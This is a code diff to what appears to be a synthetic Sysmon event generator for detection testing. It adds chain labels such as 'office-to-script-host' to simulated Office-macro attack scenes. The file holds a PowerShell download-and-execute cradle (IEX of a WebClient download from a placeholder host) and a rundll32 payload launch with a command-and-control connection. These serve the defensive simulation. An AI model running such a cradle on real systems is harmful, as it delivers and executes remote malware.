@@ -5,7 +5,8 @@ import { sysmonTime } from '../clock.ts';
 import { userOf } from '../host.ts';
 import { images, libraries, makeImage } from '../images.ts';
 import { schemas } from '../schemas.ts';
-import { anyWorkstation, auditedWorkstation, elevated, part, victim, type Scene } from './types.ts';
+import { nearlyOffice } from './chains.ts';
+import { anyWorkstation, auditedWorkstation, chain, elevated, part, victim, type Scene } from './types.ts';
 
 const STAGER_HOST = { ip: '203.0.113.77', name: 'cdn.freight-portal.example', port: 443 };
 const STAGER = `$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');IEX $w.DownloadString('https://${STAGER_HOST.name}/u/7f3a')`;
@@ -54,6 +55,10 @@ export const macroChain: Scene = {
       { parent: shell, lives: 3e6 },
     );
     const rundll = stage.start(images.rundll32, `rundll32.exe  ${payload},StartW`, { parent: cmd });
+    chain(stage, 'office-to-script-host', [word, shell]);
+    chain(stage, 'office-to-script-host', [word, cmd]);
+    chain(stage, 'office-to-connection', [word, shell]);
+    chain(stage, 'office-to-connection', [word, rundll]);
     stage.load(rundll, makeImage(payload));
     stage.dns(rundll, 'api.freight-portal.example', '203.0.113.78');
     stage.connect(rundll, { ip: '203.0.113.78', name: 'api.freight-portal.example', port: 443 });
@@ -107,12 +112,14 @@ export const scriptedWord: Scene = {
       `"${images.winword.path}" "${home}\\Downloads\\Carrier terms.docx"`,
       { parent: inner },
     );
+    chain(stage, 'cmd-powershell-office', [cmd, shell, word]);
     stage.fileCreate(word, `${home}\\Downloads\\~$rrier terms.docx`);
     stage.wait(5, 9);
     part(stage, 'clean up');
     stage.fileDelete(shell, `${folder}\\run.ps1`);
     stage.exit(shell);
     stage.exit(cmd);
+    nearlyOffice(stage);
     return desktop.user;
   },
 };
